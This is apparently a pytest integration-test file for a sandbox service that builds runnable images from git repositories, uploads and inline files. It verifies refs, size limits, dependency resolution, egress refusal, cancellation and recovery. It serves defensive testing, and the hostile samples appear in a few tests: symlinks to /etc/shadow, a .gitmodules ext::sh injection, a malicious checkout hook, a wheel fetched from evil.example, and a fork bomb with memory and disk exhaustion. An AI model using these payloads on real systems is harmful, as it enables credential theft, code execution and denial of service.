"""Builds in real sandboxes: git over HTTP, uv, the package index, all through the door."""

import io
import shutil
import tarfile
from pathlib import Path

import pytest

from skep.product.images.model import BuildStatus, FilesSource, GitSource, Install, UploadSource
from skep.product.sandboxes.model import Command, CommandId, Isolation, SandboxId, SandboxSpec
from skep.testing.git_server import serve_git
from skep.testing.wait import until

pytestmark = pytest.mark.root

HELLO = Path(__file__).parents[3] / "examples" / "hello"
MAIN = "import sys; print('hello', sys.version_info[:2])\n"


@pytest.fixture
def git(tmp_path):
    """A git server."""
    with serve_git(tmp_path / "git") as server:
        yield server


@pytest.fixture
async def rig(make_rig, driver, git):
    """A server that may fetch from the git server."""
    made = make_rig(
        driver, git_http_hosts=(git.host,), egress_allow_private=(git.host,), git_timeout_s=20, build_timeout_s=120
    )
    async with made.life():
        yield made
        await made.nothing_left()


async def run_image(rig, image, argv: tuple[str, ...]) -> tuple[int | None, str]:
    """Run a command in a sandbox on the image's layers."""
    spec = SandboxSpec(
        id=SandboxId(rig.ids.new("sbx", 1)), project_id="prj_1", isolation=Isolation.CONTAINER,
        limits=rig.options.limits, layers=image.layers,
    )  # fmt: skip
    handle = await rig.driver.create(spec)
    try:
        command = Command(
            id=CommandId("cmd"),
            argv=argv,
            timeout_s=20,
            env={"PATH": "/opt/env/bin:/usr/bin:/bin", "HOME": "/home/agent"},
        )
        await rig.driver.exec(handle, command)
        said = b"".join([chunk.data async for chunk in rig.driver.output(handle, command.id)])
        return (await rig.driver.wait(handle, command.id)).code, said.decode()
    finally:
        await rig.driver.destroy(handle)


def pack(folder: Path) -> bytes:
    """Pack a folder as the command line does."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        tar.add(folder, arcname=".")
    return buffer.getvalue()


async def upload(rig, data: bytes):
    """Upload bytes."""

    async def pieces():
        yield data

    return await rig.images.upload(rig.principal, pieces())


async def test_a_repository_becomes_an_image_that_runs(rig, git) -> None:
    """Fetch, recognise, install from the lock through the door, seal; the next build reuses the environment."""
    repository = git.repository("hello")
    commit = repository.commit({path.name: path.read_text() for path in HELLO.iterdir() if path.is_file()})
    build = await rig.built(GitSource(url=git.url("hello")))
    log = await rig.log_of(build)
    assert build.failure is None, log
    assert build.status is BuildStatus.SUCCEEDED
    assert build.commit == commit
    assert build.recognised.install is Install.UV_LOCK
    assert "Recognised: python" in log
    assert "humanize" in log
    image = await rig.image_of(build)
    assert len(image.layers) == 2
    code, said = await run_image(rig, image, ("python", "-c", "import humanize; print(humanize.ordinal(3))"))
    assert (code, said) == (0, "3rd\n")
    assert rig.listener.ended == [(build, image)]
    repository.commit({"main.py": MAIN})
    again = await rig.built(GitSource(url=git.url("hello"), ref="main"))
    assert "used again" in await rig.log_of(again)
    newer = await rig.image_of(again)
    assert newer.layers[0] == image.layers[0]
    assert newer.layers[1] != image.layers[1]
    third = await rig.built(GitSource(url=git.url("hello"), ref=commit))
    assert (await rig.image_of(third)).layers == image.layers
    assert "Nothing to install" in await rig.log_of(third)


async def test_refs_and_paths(rig, git) -> None:
    """Branch, tag, commit, the start of a commit, and a folder of the repository."""
    repository = git.repository("many")
    first = repository.commit({"agents/a/main.py": "print(1)\n", "README.md": "x"})
    repository.git("tag", "v1")
    repository.git("branch", "old")
    last = repository.commit({"agents/a/main.py": "print(2)\n"})
    for ref, commit in (
        (None, last),
        ("main", last),
        ("old", first),
        ("v1", first),
        (first, first),
        (first[:10], first),
    ):
        build = await rig.built(GitSource(url=git.url("many"), ref=ref, path="agents/a"))
        assert build.failure is None, await rig.log_of(build)
        assert build.commit == commit, ref
    code, said = await run_image(rig, await rig.image_of(build), ("ls", "-A", "/app"))
    assert (code, said) == (0, "main.py\n")


async def test_a_plain_web_server_is_enough(rig, git) -> None:
    """A server without git's own protocol is fetched whole."""
    commit = git.repository("plain").commit({"main.py": MAIN})
    build = await rig.built(GitSource(url=git.url("dumb/plain"), ref="main"))
    assert build.failure is None, await rig.log_of(build)
    assert build.commit == commit


async def test_what_cannot_be_fetched_says_why(rig, git, tmp_path) -> None:
    """Unknown ref, folder, repository, host; nothing in it; nothing recognised."""
    git.repository("one").commit({"README.md": "x"})
    git.repository("empty")
    for source, code, words in (
        (GitSource(url=git.url("one"), ref="nope"), "ref_not_found", "'nope'"),
        (GitSource(url=git.url("one"), ref="f" * 40), "ref_not_found", "f" * 40),
        (GitSource(url=git.url("one"), ref="abcdef12"), "ref_not_found", "abcdef12"),
        (GitSource(url=git.url("one"), path="nowhere"), "path_not_found", "nowhere"),
        (GitSource(url=git.url("none")), "repository_unreachable", "none"),
        (GitSource(url=git.url("empty")), "ref_not_found", "empty"),
        (GitSource(url="https://no-such-host.invalid/a"), "repository_unreachable", "no-such-host.invalid"),
        (GitSource(url="https://127.0.0.1:9/a"), "repository_unreachable", "127.0.0.1"),
        (GitSource(url=git.url("one")), "nothing_recognised", "README.md"),
    ):
        build = await rig.built(source)
        assert build.status is BuildStatus.FAILED
        assert build.failure.code == code, await rig.log_of(build)
        assert words in build.failure.message
        assert build.failure.hint


async def test_a_hostile_repository_stays_inside(rig, git) -> None:
    """Links, hooks, attributes, submodules and odd names are only files; the build goes on or fails clearly."""
    repository = git.repository("evil")
    (repository.path / "passwd").symlink_to("/etc/shadow")
    (repository.path / "up").symlink_to("../../../..")
    repository.commit(
        {
            "main.py": MAIN,
            ".gitattributes": "* filter=lfs diff=lfs\n*.x filter=evil\n",
            ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch /tmp/pwned"\n',
            "a\nb": "x",
            "hooks/post-checkout": "#!/bin/sh\ntouch /tmp/pwned\n",
        }
    )
    build = await rig.built(GitSource(url=git.url("evil")))
    assert build.failure is None, await rig.log_of(build)
    code, said = await run_image(rig, await rig.image_of(build), ("sh", "-c", "cat /app/passwd; ls /tmp"))
    assert "root:" not in said
    assert "pwned" not in said
    assert code == 0


async def test_too_large_a_repository(make_rig, driver, git) -> None:
    """What is packed is bounded by the door, what is unpacked by the listing."""
    import os

    rig = make_rig(driver, git_http_hosts=(git.host,), egress_allow_private=(git.host,), source_limit_mb=1)
    git.repository("packed").commit({"main.py": MAIN, "big": os.urandom(4 << 20)})
    git.repository("unpacked").commit({"main.py": MAIN, "big": b"\0" * (4 << 20)})
    async with rig.life():
        assert (await rig.built(GitSource(url=git.url("packed")))).failure.code == "repository_too_large"
        assert (await rig.built(GitSource(url=git.url("unpacked")))).failure.code == "source_too_large"
        await rig.nothing_left()


async def test_uploads(rig, tmp_path) -> None:
    """A packed folder is opened inside; what is no archive is said to be none."""
    folder = tmp_path / "hello"
    shutil.copytree(HELLO, folder)
    kept = await upload(rig, pack(folder))
    build = await rig.built(UploadSource(upload_id=kept.id, label="hello"))
    assert build.failure is None, await rig.log_of(build)
    assert "Unpacking the upload hello" in await rig.log_of(build)
    assert (await rig.built(UploadSource(upload_id=kept.id, path="x"))).failure.code == "path_not_found"
    broken = await upload(rig, b"nonsense" * 1000)
    assert (await rig.built(UploadSource(upload_id=broken.id))).failure.code == "upload_invalid"


async def test_inline_files_with_requirements(rig) -> None:
    """A list of requirements is installed."""
    build = await rig.built(FilesSource(files={"main.py": MAIN, "requirements.txt": "humanize\n"}))
    assert build.failure is None, await rig.log_of(build)
    assert build.recognised.install is Install.REQUIREMENTS
    assert (await run_image(rig, await rig.image_of(build), ("python", "-c", "import humanize")))[0] == 0


async def test_a_package_with_a_script(rig) -> None:
    """The project itself is installed, built by a backend from the index, and its script runs from /app."""
    pyproject = (
        '[project]\nname="my-agent"\nversion="1"\n[project.scripts]\nmy-agent="my_agent:main"\n'
        '[build-system]\nrequires=["hatchling"]\nbuild-backend="hatchling.build"\n'
    )
    files = {"pyproject.toml": pyproject, "src/my_agent/__init__.py": "def main():\n    print('it runs')\n"}
    build = await rig.built(FilesSource(files=files))
    assert build.failure is None, await rig.log_of(build)
    assert build.recognised.command == ("/opt/env/bin/my-agent",)
    assert await run_image(rig, await rig.image_of(build), build.recognised.command) == (0, "it runs\n")


async def test_a_program_beside_a_package_of_its_own(rig) -> None:
    """The project is installed for what its program imports, though it depends on nothing."""
    pyproject = (
        '[project]\nname="bees"\nversion="1"\n[build-system]\nrequires=["setuptools"]\n'
        'build-backend="setuptools.build_meta"\n'
    )
    files = {"pyproject.toml": pyproject, "main.py": "import zed\nzed.main()\n"}
    files["src/zed/__init__.py"] = "def main():\n    print('it runs')\n"
    build = await rig.built(FilesSource(files=files))
    assert build.failure is None, await rig.log_of(build)
    assert await run_image(rig, await rig.image_of(build), build.recognised.command) == (0, "it runs\n")


async def test_dependencies_that_cannot_be_had(rig) -> None:
    """The resolver's own words, the Python that is wanted, and hosts that are not to be reached."""
    none = await rig.built(FilesSource(files={"main.py": "", "requirements.txt": "humanize==0.0.0.dev9\n"}))
    assert none.failure.code == "dependencies_unresolvable"
    assert "humanize" in none.failure.message
    python = await rig.built(
        FilesSource(files={"main.py": "", "pyproject.toml": '[project]\nname="x"\nrequires-python=">=3.99"\n'})
    )
    assert python.failure.code == "python_unavailable"
    elsewhere = await rig.built(
        FilesSource(files={"main.py": "", "requirements.txt": "x @ https://evil.example/x-1-py3-none-any.whl\n"})
    )
    assert elsewhere.failure.code == "dependencies_unresolvable"
    assert "not let through to evil.example:443" in elsewhere.failure.hint
    assert "SKEP_INDEX_HOSTS" in elsewhere.failure.hint
    log = await rig.log_of(elsewhere)
    assert "Refused: evil.example:443 is not on the list of hosts that may be reached.\nWhile it installs" in log


async def test_a_setup_that_runs_wild_is_stopped(make_rig, driver) -> None:
    """Time, memory, disk and processes each end a build with their own code."""
    import asyncio

    pyproject = (
        '[project]\nname="x"\nversion="1"\n[project.scripts]\nx="x:y"\n[build-system]\nrequires=[]\n'
        'build-backend="backend"\nbackend-path=["."]\n'
    )
    head = "def build_editable(*a, **k):\n    "
    wild = {
        "build_timed_out": head + "import time; time.sleep(600)\n",
        "out_of_memory": head + "x = []\n    while True: x.append(bytearray(b'x') * (1 << 24))\n",
        "out_of_disk": head + "f = open('/app/big', 'wb')\n    while True: f.write(b'x' * (1 << 20))\n",
        "out_of_processes": head + "import os, time\n    while os.fork(): pass\n    time.sleep(3)\n    os._exit(0)\n",
    }
    rig = make_rig(driver, build_timeout_s=15, build_memory_mb=256, build_disk_mb=192)
    async with rig.life():
        begun = {
            code: await rig.begin(FilesSource(files={"pyproject.toml": pyproject, "backend.py": text, "x.py": ""}))
            for code, text in wild.items()
        }
        ended = await asyncio.gather(*(rig.ended(build) for build in begun.values()))
        for code, build in zip(begun, ended, strict=True):
            assert build.failure.code == code, await rig.log_of(build)
        await rig.nothing_left()


async def test_ssh_goes_through_the_door(make_rig, driver) -> None:
    """By the operator's leave git's ssh reaches the one host, and what it meets there is told."""
    import asyncio

    heard: list[bytes] = []

    async def greet(reader, writer) -> None:
        writer.write(b"SSH-2.0-test\r\n")
        heard.append(await reader.readline())
        writer.close()

    async with await asyncio.start_server(greet, "127.0.0.1", 0) as server:
        host = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        rig = make_rig(driver, git_ssh_hosts=(host,), egress_allow_private=(host,))
        async with rig.life():
            build = await rig.built(GitSource(url=f"ssh://git@{host}/me/agent"))
            log = await rig.log_of(build)
            await rig.nothing_left()
    assert heard
    assert heard[0].startswith(b"SSH-2.0-OpenSSH"), log
    assert build.failure.code == "repository_unreachable"


async def test_cancel_ends_it_within_two_seconds(rig, git) -> None:
    """A fetch that never ends is ended, and its sandbox is gone."""
    import asyncio

    build = await rig.begin(GitSource(url=git.url("hold/x")))
    await until(lambda: git.requests, what="git's request")
    async with asyncio.timeout(2):
        await rig.images.cancel(rig.principal, build.id)
        ended = await rig.ended(build)
    assert ended.status is BuildStatus.CANCELLED
    assert ended.failure.code == "cancelled"
    assert rig.listener.ended[-1] == (ended, None)
    git.release()


async def test_a_build_survives_the_servers_death(make_rig, driver, git) -> None:
    """A new life destroys what the last one left, and tries again in a new sandbox."""
    rig = make_rig(driver, git_http_hosts=(git.host,), egress_allow_private=(git.host,))
    git.repository("hello").commit({"main.py": MAIN})
    async with rig.life():
        build = await rig.begin(GitSource(url=git.url("hold/hello")))
        await until(lambda: git.requests, what="git's request")
        before = await rig.look(build)
    assert [handle.id for handle in await driver.recover()] == [before.sandbox_id]
    git.release()
    async with rig.life():
        ended = await rig.ended(build)
        assert ended.status is BuildStatus.SUCCEEDED, await rig.log_of(ended)
        assert ended.attempt == 2
        assert ended.sandbox_id != before.sandbox_id
        await rig.nothing_left()


async def test_what_only_a_build_backend_knows(rig):
    """A package of setuptools is installed with what it needs; of Poetry's program without a package only that is."""
    setup = 'from setuptools import setup\nsetup(name="hive", packages=["hive"], install_requires=["humanize"])\n'
    program = "import humanize; print(humanize.intcomma(12345))\n"
    poetry = (
        '[tool.poetry]\nname = "bee"\nversion = "1"\ndescription = ""\nauthors = []\n'
        '[tool.poetry.dependencies]\npython = "^3.9"\nhumanize = "^4.0"\n'
        '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
    )
    for files in (
        {"setup.py": setup, "hive/__init__.py": "", "main.py": f"import hive; {program}"},
        {"pyproject.toml": poetry, "main.py": program},
    ):
        build = await rig.built(FilesSource(files=files))
        assert build.status is BuildStatus.SUCCEEDED, await rig.log_of(build)
        image = await rig.image_of(build)
        assert await run_image(rig, image, (*image.recognised.command[:1], "/app/main.py")) == (0, "12,345\n")
